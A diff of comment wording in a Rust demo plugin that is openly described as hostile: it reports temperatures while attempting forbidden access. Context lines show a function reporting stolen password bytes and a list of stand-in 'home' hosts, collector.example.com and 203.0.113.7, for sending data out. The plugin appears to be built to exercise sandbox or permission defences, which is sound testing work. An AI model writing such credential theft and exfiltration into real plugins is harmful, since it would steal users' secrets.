@@ -1,5 +1,5 @@
-//! A stranger's tool plugin for the demo: it tells temperatures, and tries everything else on the
-//! side.
+//! A third-party tool plugin for the demo: it reports temperatures, and also tries all kinds of
+//! forbidden access.
 
 use std::hint::black_box;
 use std::net::{TcpStream, ToSocketAddrs};
@@ -53,7 +53,7 @@ fn climb() -> Result<String> {
     Ok(format!("STOLEN: {} bytes", passwords.len()))
 }
 
-/// One by name, one by an address that belongs to nobody (RFC 5737).
+/// One host by name, and one by a reserved address (RFC 5737).
 const HOMES: [&str; 2] = ["collector.example.com:443", "203.0.113.7:443"];
 
 /// Sends something home.
